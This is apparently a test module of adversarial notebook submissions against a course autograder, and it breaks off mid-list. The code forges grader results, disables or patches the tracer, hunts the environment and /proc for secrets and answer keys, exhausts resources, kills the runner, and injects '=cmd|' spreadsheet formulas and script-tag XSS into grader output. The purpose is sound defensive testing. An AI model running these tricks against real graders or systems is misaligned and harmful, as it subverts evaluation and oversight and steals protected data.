"""The second round of attacks: what a determined student tries once round one is closed.

Built from the same kit as ``tests/attacks`` (the compact course of ``source.py``, the bases
"correct", "stub" and "zeros"), plus one more base, "loopy": every answer correct, but
``svm_loss_vectorized`` loops over the examples with ``map`` (no ``for`` statement). Its
honest score is the correct score less the vectorization point.

Each attack says what its honest content deserves (``deserved``: the base whose score it may
not exceed) and whether it must be flagged. The classes:

1. forged probe results          5. breaking the class run (graded through the CLI)
2. results that change when read 6. limits per process versus per submission
3. detecting the probe           7. leaks into grades.csv or the feedback page
4. fooling the vectorization     8. identity at collect time (graded through the CLI)

Attacks of classes 6 and 7 report what they achieved in the text of an exception their answer
cell raises ("R2REPORT key=value"); the grader shows that text to the student as a note, so
the test reads it back from the result.

Notebook-level attacks are ``Attack`` objects (``make(kit) -> bytes``) as in round one;
archive-level attacks (classes 5 and 8) are ``LmsAttack`` objects whose ``make`` returns the
files of an LMS export.
"""
from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass
from typing import Callable

import nbformat

from . import (
    Attack,
    Kit,
    _dump,
    _variant,
    append,
    cell_defining,
    inject_into_body,
    prepend,
    solution_cells,
    student_notebook,
)

BASES2 = ("correct", "stub", "zeros", "loopy")

# ----------------------------------------------------------------------- building blocks

# One example's SVM loss and gradient: the per-example work a loop repeats N times.
ONE_EXAMPLE = '''\
def _r2_one(W, X, y, i):
    s = X[i] @ W
    m = np.maximum(0.0, s - s[y[i]] + 1.0)
    m[y[i]] = 0.0
    g = np.outer(X[i], (m > 0).astype(W.dtype))
    g[:, y[i]] -= X[i] * (m > 0).sum()
    return m.sum(), g
'''

# The loop over the examples without a for statement: map over range(N).
MAP_LOOP = '''\
def _r2_loop(W, X, y, reg):
    N = X.shape[0]
    parts = list(map(lambda i: _r2_one(W, X, y, i), range(N)))
    loss = sum(p[0] for p in parts) / N + reg * np.sum(W * W)
    dW = sum(p[1] for p in parts) / N + 2 * reg * W
    return loss, dW
'''

LOOPY_VECTORIZED = ONE_EXAMPLE + "\n" + MAP_LOOP + '''
def svm_loss_vectorized(W, X, y, reg):
    """Correct, but one Python call per example."""
    return _r2_loop(W, X, y, reg)
'''

# Reaching sys without naming it (numpy's testing helpers import it): static scans look for
# the name sys, settrace, f_back and friends, not for strings handed to getattr.
STEALTH_SYS = '_r2_sys = getattr(np.testing._private.utils, "s" + "ys")\n'


def base_notebook(kit: Kit, base: str):
    """student_notebook() with the extra base "loopy"."""
    if base != "loopy":
        return student_notebook(kit, base)
    nb = student_notebook(kit, "correct")
    append(cell_defining(nb, "svm_loss_vectorized"), LOOPY_VECTORIZED)
    return nb


def _vec_cell(nb):
    return cell_defining(nb, "svm_loss_vectorized")


def report_raise(expr: str) -> str:
    """A line that raises the attack's report: RuntimeError('R2REPORT ' + expr)."""
    return f'raise RuntimeError("R2REPORT " + {expr})\n'


def _with_report(code: str):
    """Append code (ending in report_raise) to the last answer cell: the functions above stay defined."""
    def change(nb, kit):
        append(solution_cells(nb)[-1], code)
    return change


def _wire_frame_source() -> str:
    """Python source of a function _r2_frame(header, value_tree) -> bytes in the wire format."""
    return '''\
import json as _r2_json, struct as _r2_struct
def _r2_frame(header, value):
    header = dict(header, value=value, arrays=[])
    head = _r2_json.dumps(header).encode()
    return _r2_struct.pack(">I", len(head)) + head
'''


# ------------------------------------------------------------- 1. forged probe results

def _spray_fake_frames(nb, kit):
    prepend(solution_cells(nb)[0], _wire_frame_source() + '''\
import os, atexit
_R2_FAKE_CELLS = {"op": "cells", "setup_errors": [], "cell_errors": {},
                  "functions": {f: {"defined": True, "defined_in": "<cell-" + f + ">", "fingerprint": None}
                                for f in ("svm_loss_naive", "svm_loss_vectorized", "sample_batch", "sgd_step",
                                          "predict")}}
def _r2_spray():
    blob = _r2_frame(_R2_FAKE_CELLS, {"n": None})
    for n in range(40):
        blob += _r2_frame({"op": "result", "id": None, "ok": True, "error": None, "events": 1,
                           "own_calls": [], "hooks_changed": False}, {"t": [{"f": 1.0}, {"n": None}]})
    for fd in range(1, 64):
        try:
            os.write(fd, blob)
        except OSError:
            pass
_r2_spray()
atexit.register(_r2_spray)
''')


def _thread_writes_result_fd(nb, kit):
    prepend(solution_cells(nb)[0], _wire_frame_source() + '''\
import os, stat, threading, time
def _r2_pipes():
    out = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                out.append(fd)
        except (OSError, ValueError):
            pass
    return out
def _r2_writer():
    reply = _r2_frame({"op": "result", "id": None, "ok": True, "error": None, "events": 1, "own_calls": [],
                       "hooks_changed": False}, {"t": [{"f": 1.0}, {"n": None}]})
    for _ in range(400):
        for fd in _r2_pipes():
            try:
                os.write(fd, reply)
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=_r2_writer, daemon=True).start()
''')


FORGE_REPLY = STEALTH_SYS + '''\
def _r2_frames():
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as e:
        f = getattr(e.__traceback__, "tb_fr" + "ame")
    out = []
    while f is not None:
        out.append(f)
        f = getattr(f, "f_ba" + "ck")
    return out

def svm_loss_vectorized(W, X, y, reg):
    """The loop, plus a forged reply (few traced lines) for the traced calls."""
    result = _r2_loop(W, X, y, reg)
    scopes = [getattr(f, "f_loc" + "als") for f in _r2_frames()]
    request = next((s["request"] for s in scopes if isinstance(s.get("request"), dict)), None)
    fd = next((s["result_fd"] for s in scopes if isinstance(s.get("result_fd"), int)), None)
    if request is not None and request.get("trace") and fd is not None:
        wire = _r2_sys.modules["wire"]
        reply = {"op": "result", "id": request.get("id"), "ok": True, "error": None, "events": 7,
                 "own_calls": None, "called": [], "hooks_changed": False}
        wire.send(fd, reply, (float(result[0]), result[1]))
        real_send = wire.send
        def drop_once(*args, **kwargs):
            wire.send = real_send
        wire.send = drop_once
    return result
'''


def _forge_traced_reply(nb, kit):
    append(_vec_cell(nb), FORGE_REPLY)


# ------------------------------------------------------ 2. results that change when read

def _conversion_hooks(nb, kit):
    for fn in ("svm_loss_naive", "svm_loss_vectorized"):
        append(cell_defining(nb, fn), f'''\
class _R2Float(float):
    def __float__(self): return 1.0
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.asarray(1.0)
class _R2Array(np.ndarray):
    def __array__(self, dtype=None, copy=None): return np.ones(self.shape)
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def tobytes(self, *a, **k): return np.ones(self.shape).tobytes()
class _R2Lazy:
    def __init__(self, shape): self.shape = shape
    def __array__(self, dtype=None, copy=None): return np.ones(self.shape)
    def __float__(self): return 1.0
    def __index__(self): return 1
class _R2Tuple(tuple):
    def __iter__(self): return iter((1.0, None))
def {fn}(W, X, y, reg):
    dW = np.zeros_like(W).view(_R2Array)
    return _R2Tuple((_R2Float(0.0), dW)) if X.shape[0] % 2 else (_R2Float(0.0), _R2Lazy(W.shape))
''')


def _filled_later_by_thread(nb, kit):
    for fn in ("svm_loss_naive", "svm_loss_vectorized"):
        append(cell_defining(nb, fn), f'''\
import threading, time
_r2_out = {{}}
def _r2_fill(dW, box):
    for _ in range(200):
        dW[...] = 1.0
        box[0] = 1.0
        time.sleep(0.005)
def {fn}(W, X, y, reg):
    dW = np.zeros_like(W)
    box = [0.0]
    threading.Thread(target=_r2_fill, args=(dW, box), daemon=True).start()
    return box[0], dW
''')


def _numpy_oddities(nb, kit):
    for fn in ("svm_loss_naive", "svm_loss_vectorized"):
        append(cell_defining(nb, fn), f'''\
class _R2Scalar(np.float64):
    def __float__(self): return 1.0
_r2_buffer = np.zeros(64)
def {fn}(W, X, y, reg):
    view = _r2_buffer[:W.size].reshape(W.shape)   # a view the next call overwrites
    _r2_buffer[:] = X.shape[0]
    odd = np.empty(W.shape, dtype=object)
    odd[...] = _R2Scalar(0.0)
    return (_R2Scalar(0.0), odd) if X.shape[0] % 3 == 0 else (np.float64(0.0).view(_R2Scalar), view)
''')


# -------------------------------------------------------------- 3. detecting the probe

def _hunt_secret(nb, kit):
    # Looks for the grader's secret, seed or inputs in the environment, /proc, argv, the
    # folders around scratch and /tmp, and reports what it found (the strings are split so
    # that the notebook's own text never contains them).
    append(solution_cells(nb)[-1], '''\
import os, sys, glob
_r2_found = []
def _r2_look(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(200_000)
    except OSError:
        return
    for word in (b"case-" + b"secret", b"se" + b"ed", b"BEGIN " + b"HIDDEN", b"hidden." + b"check"):
        if word in data:
            at = data.index(word)
            _r2_found.append(f"{path}: {data[max(0, at - 40):at + 120]!r}")
for _k, _v in os.environ.items():
    _r2_found.append(f"env {_k}={_v}"[:120])
_r2_found.append("argv " + " ".join(sys.argv)[:200])
for _p in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    _r2_look(_p)
for _root in [os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())),
              os.path.expanduser("~"), "/tmp", "/work", "/root"]:
    for _dir, _dirs, _files in os.walk(_root):
        if _dir.count("/") > 8:
            _dirs[:] = []
        for _f in _files[:200]:
            _r2_look(os.path.join(_dir, _f))
for _p in glob.glob("/proc/self/fd/*"):
    try:
        _r2_found.append("fd " + _p + " -> " + os.readlink(_p))
    except OSError:
        pass
''' + report_raise('" | ".join(_r2_found)[-450:]'))


CACHE_REPEAT = '''
_r2_cache = {}
def svm_loss_vectorized(W, X, y, reg):
    """The naive loss, answered from a cache when the same inputs come again."""
    key = (W.tobytes(), X.tobytes(), y.tobytes(), reg)
    if key not in _r2_cache:
        _r2_cache[key] = svm_loss_naive(W, X, y, reg)
    loss, dW = _r2_cache[key]
    return loss, dW.copy()
'''

TRACE_SWITCH = STEALTH_SYS + '''
def svm_loss_vectorized(W, X, y, reg):
    """Loops, unless a tracer is watching: then the tracer is switched off first."""
    if getattr(_r2_sys, "get" + "trace")() is not None:
        getattr(_r2_sys, "set" + "trace")(None)
    return _r2_loop(W, X, y, reg)
'''


def _cache_repeat(nb, kit):
    append(_vec_cell(nb), CACHE_REPEAT)


def _trace_switch(nb, kit):
    append(_vec_cell(nb), TRACE_SWITCH)


# ------------------------------------------------------- 4. fooling the vectorization

RELABEL = '''
def _r2_relabel(code):
    consts = tuple(_r2_relabel(c) if type(c) is type(code) else c for c in getattr(code, "co_con" + "sts"))
    return code.replace(co_filename=np.__file__, co_consts=consts)

_r2_lib_one = type(_r2_one)(_r2_relabel(getattr(_r2_one, "__co" + "de__")), getattr(_r2_one, "__glo" + "bals__"))
_r2_lib_loop = type(_r2_loop)(_r2_relabel(getattr(_r2_loop, "__co" + "de__")), getattr(_r2_loop, "__glo" + "bals__"))
_r2_one = _r2_lib_one

def svm_loss_vectorized(W, X, y, reg):
    """The loop, with its code objects relabelled as numpy's own file."""
    return _r2_lib_loop(W, X, y, reg)
'''

PADDED = '''
def svm_loss_vectorized(W, X, y, reg):
    """A loop of a constant 512 rounds, of which only the first N do real work."""
    N = X.shape[0]
    loss, dW = 0.0, np.zeros_like(W)
    for k in range(512):
        weight = 1.0 if k < N else 0.0
        l, g = _r2_one(W, X, y, min(k, N - 1))
        loss += weight * l
        dW += weight * g
    return loss / N + reg * np.sum(W * W), dW / N + 2 * reg * W
'''

PATCH_TRACER = STEALTH_SYS + '''
_r2_calls = _r2_sys.modules.get("calls")
if _r2_calls is not None:
    def _r2_untraced(fn, args, prefixes):
        return 3, set(), None, fn(*args)
    _r2_calls.traced_call = _r2_untraced
'''

THREAD_LOOP = '''
import threading
def svm_loss_vectorized(W, X, y, reg):
    """The loop runs in a thread, which the tracer of the calling thread does not see."""
    box = {}
    worker = threading.Thread(target=lambda: box.update(out=_r2_loop(W, X, y, reg)))
    worker.start()
    worker.join()
    return box["out"]
'''

LIBRARY_LOOPS = '''
import functools
def svm_loss_vectorized(W, X, y, reg):
    """Per-example work through numpy and functools helpers, no for statement."""
    N = X.shape[0]
    rows = np.apply_along_axis(lambda r: np.array([r[0]]), 1, np.arange(N)[:, None])
    per = np.vectorize(lambda i: 0.0)(rows[:, 0])
    loss, dW = functools.reduce(lambda acc, i: (acc[0] + _r2_one(W, X, y, int(i))[0],
                                                 acc[1] + _r2_one(W, X, y, int(i))[1]),
                                rows[:, 0], (float(per.sum()), np.zeros_like(W)))
    return loss / N + reg * np.sum(W * W), dW / N + 2 * reg * W
'''

RECURSION = '''
def _r2_rec(W, X, y, i):
    if i < 0:
        return 0.0, np.zeros_like(W)
    l, g = _r2_one(W, X, y, i)
    l2, g2 = _r2_rec(W, X, y, i - 1)
    return l + l2, g + g2

def svm_loss_vectorized(W, X, y, reg):
    """Recursion over the examples."""
    N = X.shape[0]
    loss, dW = _r2_rec(W, X, y, N - 1)
    return loss / N + reg * np.sum(W * W), dW / N + 2 * reg * W
'''

def _append_vec(code: str) -> Callable:
    def change(nb, kit):
        append(_vec_cell(nb), code)
    return change


def _exec_under_library_name(nb, kit):
    # exec and compile are reached through the builtins module found on a numpy submodule,
    # and the per-example helper is relabelled too, so no line of the loop is "student code".
    append(_vec_cell(nb), STEALTH_SYS + RELABEL.split("_r2_lib_one =")[0] + '''
_r2_bi = _r2_sys.modules["bu" + "iltins"]
_r2_ns = {"np": np}
getattr(_r2_bi, "ex" + "ec")(getattr(_r2_bi, "com" + "pile")(
    "def _r2_hidden(W, X, y, reg, one):\\n"
    "    N = X.shape[0]\\n"
    "    loss, dW = 0.0, np.zeros_like(W)\\n"
    "    for i in range(N):\\n"
    "        l, g = one(W, X, y, i)\\n"
    "        loss += l\\n"
    "        dW += g\\n"
    "    return loss / N + reg * np.sum(W * W), dW / N + 2 * reg * W\\n",
    np.__file__, "ex" + "ec"), _r2_ns)
_r2_lib_one = type(_r2_one)(_r2_relabel(getattr(_r2_one, "__co" + "de__")), getattr(_r2_one, "__glo" + "bals__"))

def svm_loss_vectorized(W, X, y, reg):
    """A loop compiled under numpy's file name."""
    return _r2_ns["_r2_hidden"](W, X, y, reg, _r2_lib_one)
''')


# ------------------------------------------------- 6. limits per process, not per submission

MEMFD = '''
import os
_r2_memfds, _r2_held = [], 0
for _k in range(900):
    try:
        _fd = os.memfd_create(f"r2-{_k}")
        os.write(_fd, b"x" * 1_900_000)
    except OSError:
        break
    _r2_memfds.append(_fd)
    _r2_held += 1_900_000
''' + report_raise('f"memory_bytes={_r2_held}"')

PROCESSES = '''
import os, time
_r2_children = []
for _k in range(3):
    _r, _w = os.pipe()
    _pid = os.fork()
    if _pid == 0:
        try:
            _block = b"x" * (700 * 1024 * 1024)
            os.write(_w, b"1")
        except MemoryError:
            os.write(_w, b"0")
        time.sleep(3)
        os._exit(0)
    _r2_children.append(_r)
_r2_held = sum(int(os.read(_r, 1) or b"0") for _r in _r2_children) * 700 * 1024 * 1024
''' + report_raise('f"memory_bytes={_r2_held}"')

DELETED_FILES = '''
import os
_r2_open, _r2_held = [], 0
for _k in range(60):
    try:
        _f = open(f"r2-deleted-{_k}.bin", "wb")
        os.unlink(f"r2-deleted-{_k}.bin")
        _f.write(b"x" * 1_900_000)
        _f.flush()
    except OSError:
        break
    _r2_open.append(_f)
    _r2_held += 1_900_000
''' + report_raise('f"disk_bytes={_r2_held}"')

TMP_FILES = '''
import os
os.makedirs("/tmp/r2-many", exist_ok=True)
_r2_count = 0
for _k in range(60_000):
    try:
        open(f"/tmp/r2-many/{_k}", "w").close()
    except OSError:
        break
    _r2_count += 1
''' + report_raise('f"files={_r2_count}"')

DEEP_PATH_FILES = '''
import os
_r2_home = os.getcwd()
_r2_held = 0
try:
    for _k in range(25):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for _k in range(60):
        with open(f"f{_k}", "wb") as _f:
            _f.write(b"x" * 1_900_000)
        _r2_held += 1_900_000
except OSError:
    pass
finally:
    os.chdir(_r2_home)
''' + report_raise('f"disk_bytes={_r2_held}"')

DEV_SHM = '''
import os
_r2_held = 0
for _where in ("/dev/shm", "/dev/mqueue", "/run/shm", "/var/tmp", "/dev"):
    try:
        with open(os.path.join(_where, "r2-shm.bin"), "wb") as _f:
            for _k in range(50):
                _f.write(b"x" * 1_900_000)
                _r2_held += 1_900_000
    except OSError:
        pass
''' + report_raise('f"memory_bytes={_r2_held}"')

FORGED_EXECUTED = '''
import os, json, signal
if os.path.exists("rebuilt.ipynb"):   # the notebook run (not the probe)
    with open("executed.ipynb", "w") as _f:
        _f.write('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")
    with open("run_status.json", "w") as _f:
        json.dump({"status": "ok", "detail": "", "cell": None}, _f)
    os.kill(os.getppid(), signal.SIGKILL)
'''


# ------------------------------------------------------------------------- 7. leaks

LEAK_INPUTS = '''
def _r2_leak(*args):
    nums = []
    for a in args:
        if isinstance(a, np.ndarray) and a.dtype.kind == "f":
            nums += [f"{v:.12e}" for v in a.ravel()[:4]]
    raise ValueError("R2INPUTS " + " ".join(nums))
svm_loss_naive = svm_loss_vectorized = lambda W, X, y, reg: _r2_leak(W, X)
'''

LEAK_FILES = '''
import os, glob
_r2_hits = []
_r2_words = [b"BEGIN " + b"HIDDEN", b"hidden." + b"check_", b"_ref.svm_" + b"loss", b"case-" + b"secret",
             b"def svm_loss_" + b"vectorized(W, X, y, reg)"]
_r2_roots = ["/work", "/root", "/tmp", os.path.dirname(np.__file__) + "/..", "/usr/local/lib", "/opt"]
try:
    import linclass
    _r2_roots.append(os.path.dirname(linclass.__file__))
    _r2_roots.append(os.path.dirname(os.path.dirname(linclass.__file__)))
except Exception:
    pass
for _root in _r2_roots:
    for _dir, _dirs, _files in os.walk(_root):
        _dirs[:] = [d for d in _dirs if d not in ("numpy", "scipy", "matplotlib", "pandas", "sklearn", "torch")]
        for _f in _files:
            if not _f.endswith((".py", ".ipynb", ".json", ".txt", ".pyc", ".db", ".md")) and "secret" not in _f:
                continue
            try:
                with open(os.path.join(_dir, _f), "rb") as _h:
                    _data = _h.read(2_000_000)
            except OSError:
                continue
            for _w in _r2_words:
                if _w in _data and "r2" not in _f:
                    _at = _data.index(_w)
                    _r2_hits.append(f"{_dir}/{_f}: " + _data[_at:_at + 160].decode("latin-1"))
''' + report_raise('" || ".join(_r2_hits)[:480] if _r2_hits else "nothing found"')


# ------------------------------------------------------------------- the attack list

@dataclass(frozen=True)
class Attack2(Attack):
    """A round-two attack: its class (1-8), and the base whose score it deserves at most.

    deserved: the base ("correct", "stub", "zeros", "loopy") whose score is the most its
        honest content deserves; "" when it is not graded for points (identity, run breaking).
    report: a key the attack reports in an "R2REPORT key=value" note, and limit_key which
        GradeConfig/Limits value it must not exceed ("memory_mb", "max_scratch_bytes",
        "max_files"); see tests/test_attacks.py.
    """
    klass: int = 0
    deserved: str = ""
    report: str = ""
    limit_key: str = ""


def _a(klass, name, what, base, change, deserved=None, **kw) -> Attack2:
    return Attack2(name, what, base, _variant(base, change, notebook=base_notebook), klass=klass,
                   deserved=deserved if deserved is not None else base, **kw)


ATTACKS2: list[Attack2] = [
    # References (not attacks): the honest scores the others are measured against.
    _a(0, "correct", "the correct solution", "correct", lambda nb, k: None, flagged=False, full_marks=True),
    _a(0, "stub", "the untouched release", "stub", lambda nb, k: None, flagged=False),
    _a(0, "zeros", "answers that return zeros", "zeros", lambda nb, k: None, flagged=False),
    _a(0, "loopy", "correct, but svm_loss_vectorized loops over the examples with map", "loopy",
       lambda nb, k: None, flagged=False),
    # 1. forged probe results
    _a(1, "spray_fake_frames", "writes fake 'cells' and 'result' frames to every fd 1-63, now and at exit",
       "stub", _spray_fake_frames, flagged=True),
    _a(1, "thread_writes_result_fd", "a thread writes fake result frames to every pipe in /proc/self/fd",
       "stub", _thread_writes_result_fd, flagged=True),
    _a(1, "forge_traced_reply", "steals the request id from the probe's frames, sends its own reply with "
       "7 traced lines, and drops the probe's real reply (no flagged names used)", "loopy", _forge_traced_reply),
    # 2. results that change when they are looked at
    _a(2, "conversion_hooks", "returns float/ndarray/tuple subclasses and __array__/__float__/__index__/__eq__ "
       "objects that say 1.0 when converted", "stub", _conversion_hooks),
    _a(2, "filled_later_by_thread", "returns arrays a thread keeps filling after the call returned",
       "zeros", _filled_later_by_thread, deserved="zeros", flagged=True),
    _a(2, "numpy_oddities", "np.float64 subclass, object-dtype array, a view of a buffer the next call "
       "overwrites", "stub", _numpy_oddities),
    # 3. detecting the probe
    _a(3, "hunt_secret", "looks for the seed, secret and inputs in env, argv, /proc, the folders around "
       "scratch, /tmp, /work, /root; reports what it finds", "stub", _hunt_secret, flagged=True),
    _a(3, "cache_repeated_inputs", "the vectorized loss calls the naive one, but answers a repeated case "
       "(the own-calls profile) from a cache", "correct", _cache_repeat, deserved="loopy"),
    _a(3, "switch_off_tracer_when_traced", "checks sys.gettrace() inside the call (sys reached through "
       "numpy) and switches the tracer off", "loopy", _trace_switch),
    # 4. fooling the vectorization check
    _a(4, "relabel_code_filename", "the loop's code objects get co_filename = numpy's file "
       "(code.replace through getattr)", "loopy", _append_vec(STEALTH_SYS + RELABEL)),
    _a(4, "pad_constant_loop", "a for loop of a constant 512 rounds, only the first N doing work", "loopy",
       _append_vec(PADDED)),
    _a(4, "patch_probe_tracer", "replaces the probe's calls.traced_call (found through sys.modules) by an "
       "untraced call", "loopy", _append_vec(PATCH_TRACER)),
    _a(4, "loop_in_thread", "the loop runs in a worker thread", "loopy", _append_vec(THREAD_LOOP), flagged=True),
    _a(4, "library_helpers_loop", "np.apply_along_axis, np.vectorize and functools.reduce over the examples",
       "loopy", _append_vec(LIBRARY_LOOPS)),
    _a(4, "recursion_loop", "recursion over the examples", "loopy", _append_vec(RECURSION)),
    _a(4, "exec_under_library_name", "exec(compile(loop, numpy's file name)) with exec/compile reached "
       "through sys.modules['builtins']", "loopy", _exec_under_library_name),
    # 6. limits per process versus per submission
    _a(6, "memfd_memory", "900 memfds of 1.9 MB (unmapped: not in the address-space limit)", "stub",
       _with_report(MEMFD), flagged=True, report="memory_bytes", limit_key="memory_mb"),
    _a(6, "memory_in_processes", "three forked processes of 700 MiB each, each under the per-process limit",
       "stub", _with_report(PROCESSES), flagged=True, report="memory_bytes", limit_key="memory_mb"),
    _a(6, "deleted_open_files", "60 open-but-deleted files of 1.9 MB in scratch", "stub",
       _with_report(DELETED_FILES), flagged=True, report="disk_bytes", limit_key="max_scratch_bytes"),
    _a(6, "files_beyond_path_max", "60 files of 1.9 MB under 25 nested folders of 200-character names "
       "(deeper than PATH_MAX)", "stub", _with_report(DEEP_PATH_FILES), flagged=True, report="disk_bytes",
       limit_key="max_scratch_bytes"),
    _a(6, "tiny_files_in_tmp", "60,000 empty files in the private /tmp", "stub", _with_report(TMP_FILES),
       flagged=True, report="files", limit_key="max_files"),
    _a(6, "dev_shm", "writes 95 MB into /dev/shm, /dev/mqueue, /run/shm, /var/tmp, /dev", "stub",
       _with_report(DEV_SHM), flagged=True, report="memory_bytes", limit_key="max_scratch_bytes"),
    _a(6, "forged_executed_notebook", "the kernel writes a 200,000-deep JSON executed.ipynb and kills the "
       "notebook runner so that the grader parses it", "correct",
       lambda nb, k: prepend(solution_cells(nb)[0], FORGED_EXECUTED), flagged=True),
    # 7. leaks
    _a(7, "leak_probe_inputs", "the losses raise an error holding the grader's hidden inputs", "stub",
       _append_vec(LEAK_INPUTS)),
    _a(7, "leak_course_files", "searches /work, /root, /tmp, site-packages and the kit for hidden tests, the "
       "answer key and the secret; reports what it found", "stub", _with_report(LEAK_FILES), flagged=True),
]
BY_NAME2 = {a.name: a for a in ATTACKS2}


# ------------------------------------------------------- 5. breaking the class run (CLI)

def _raw_notebook(nb) -> bytes:
    """The notebook as JSON with every non-ASCII character escaped (lone surrogates too)."""
    return json.dumps(nb, ensure_ascii=True, indent=1).encode("ascii")


def _fake_graded_cell(grade_id, points, source="assert True"):
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": grade_id, "locked": True, "points": points,
                                 "schema_version": 3, "solution": False, "task": False}
    return cell


def _surrogate_in_errors(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    inject_into_body(cell_defining(nb, "svm_loss_naive"), "svm_loss_naive",
                     'raise ValueError("bad byte \\udcff here")')
    append(solution_cells(nb)[-1], 'raise RuntimeError("cell error \\udcff")')
    return _raw_notebook(nb)


def _surrogate_in_metadata(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    nb.cells.append(_fake_graded_cell("bonus\udcff", "\udcff"))
    nb.cells.append(_fake_graded_cell("\udcff", 1))
    return _raw_notebook(nb)


def _grade_id_not_text(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    nb.cells.append(_fake_graded_cell(["a", "list"], 1))
    nb.cells.append(_fake_graded_cell({"a": "dict"}, 1))
    nb.cells.append(_fake_graded_cell(12345, 1))
    return _raw_notebook(nb)


def _deep_metadata(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    nb.cells[0].metadata["deep"] = "@@DEEP@@"
    text = _raw_notebook(nb).decode()
    return text.replace('"@@DEEP@@"', '{"a": ' * 100_000 + "1" + "}" * 100_000).encode()


def _enormous_source(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    append(solution_cells(nb)[0], "# " + "x" * 30_000_000)
    return _raw_notebook(nb)


def _deep_scratch(kit) -> bytes:
    nb = student_notebook(kit, "correct")
    prepend(solution_cells(nb)[0], '''\
import os
_r2_home = os.getcwd()
try:
    for _k in range(1500):
        os.mkdir("d")
        os.chdir("d")
finally:
    os.chdir(_r2_home)''')
    return _raw_notebook(nb)


FORMULA = "=cmd|' /C calc'!A0"
SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"


def _formula_and_html(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    inject_into_body(cell_defining(nb, "svm_loss_naive"), "svm_loss_naive",
                     f"raise ValueError({(FORMULA + ' ' + SCRIPT)!r})")
    append(solution_cells(nb)[-1], f"raise RuntimeError({(SCRIPT + FORMULA)!r})")
    nb.cells.append(_fake_graded_cell(FORMULA, FORMULA))
    nb.cells.append(_fake_graded_cell(SCRIPT, SCRIPT))
    return _raw_notebook(nb)


@dataclass(frozen=True)
class LmsAttack:
    """An attack on the batch: the files of an LMS export, graded next to two honest neighbours.

    make(kit, neighbours) -> {file name: bytes}, where neighbours is {"alice": bytes,
    "bob": bytes}; as_zip: the export is a zip (else a folder of files); attackers: how many
    students besides the two neighbours the export holds (each must have a row in
    grades.csv); deserved: the most any of them may score (None: not checked).
    """
    name: str
    what: str
    klass: int
    make: Callable
    attackers: int
    as_zip: bool = True
    deserved: float | None = None


def _lms_name(student: str, n: int) -> str:
    return f"{student}_{1000 + n}_{2000 + n}_svm.ipynb"


def _with_neighbours(attacker_files: Callable) -> Callable:
    def make(kit, neighbours):
        files = {_lms_name(s, i): data for i, (s, data) in enumerate(sorted(neighbours.items()))}
        files.update(attacker_files(kit))
        return files
    return make


def _mallory(notebook: Callable) -> Callable:
    """The attacker's one notebook, notebook(kit), as mallory (LMS id 9), beside the neighbours."""
    return _with_neighbours(lambda kit: {_lms_name("mallory", 9): notebook(kit)})


LMS_ATTACKS: list[LmsAttack] = [
    LmsAttack("surrogate_in_error_message", "an answer raises errors holding a lone surrogate (\\udcff)", 5,
              _mallory(_surrogate_in_errors),
              1, deserved=0.0),
    LmsAttack("surrogate_in_metadata", "fake graded cells whose grade_id and points hold a lone surrogate", 5,
              _mallory(_surrogate_in_metadata),
              1, deserved=0.0),
    LmsAttack("grade_id_not_text", "cells whose grade_id is a JSON list, a dict and a number", 5,
              _mallory(_grade_id_not_text),
              1, deserved=0.0),
    LmsAttack("metadata_100000_deep", "cell metadata nested 100,000 levels deep", 5,
              _mallory(_deep_metadata),
              1, deserved=0.0),
    LmsAttack("enormous_cell_source", "an answer cell of 30 MB", 5,
              _mallory(_enormous_source),
              1, deserved=0.0),
    LmsAttack("scratch_1500_deep", "a correct answer that leaves 1,500 nested folders in scratch", 5,
              _mallory(_deep_scratch),
              1),
    LmsAttack("formula_and_html_in_messages", "'=cmd|...' and <script> in errors, grade_ids and points", 5,
              _mallory(_formula_and_html),
              1, deserved=0.0),
    LmsAttack("zip_member_name_300_bytes", "a zip member whose name is 300 bytes long", 5,
              _with_neighbours(lambda kit: {"m" * 290 + "_svm.ipynb": _dump(student_notebook(kit, "stub"))}),
              1),
    LmsAttack("zip_member_control_chars", "zip member names with a newline, a carriage return, a comma, a "
              "tab and a formula", 5,
              _with_neighbours(lambda kit: {
                  "mal\nlory,x_1009_2009_svm.ipynb": _dump(student_notebook(kit, "stub")),
                  '=HYPERLINK("x")\r\t,eve_1010_2010_svm.ipynb': _dump(student_notebook(kit, "stub"))}),
              2, deserved=0.0),
    # 8. identity
    LmsAttack("display_names_collide", "two users (LMS ids 31, 32) named 'Jane Roe' and 'jane  roe'", 8,
              _with_neighbours(lambda kit: {
                  "Jane Roe_31_assignsubmission_file_svm.ipynb": _dump(student_notebook(kit, "correct")),
                  "jane  roe_32_assignsubmission_file_svm.ipynb": _dump(student_notebook(kit, "stub"))}),
              2),
    LmsAttack("accents_collide", "two users (LMS ids 41, 42) named 'José' and 'Jose'", 8,
              _with_neighbours(lambda kit: {
                  "Jos\u00e9_41_assignsubmission_file_svm.ipynb": _dump(student_notebook(kit, "correct")),
                  "Jose_42_assignsubmission_file_svm.ipynb": _dump(student_notebook(kit, "zeros"))}),
              2),
    LmsAttack("file_claims_other_id", "mallory uploads a file named alice_svm.ipynb (the LMS prefixes her "
              "own login)", 8,
              _with_neighbours(lambda kit: {"mallory_3333_4444_alice_svm.ipynb": _dump(student_notebook(kit, "stub"))}),
              1, deserved=0.0),
    LmsAttack("display_name_holds_other_id", "mallory (LMS id 77) sets her display name to 'alice_1000', "
              "alice's login and user id", 8,
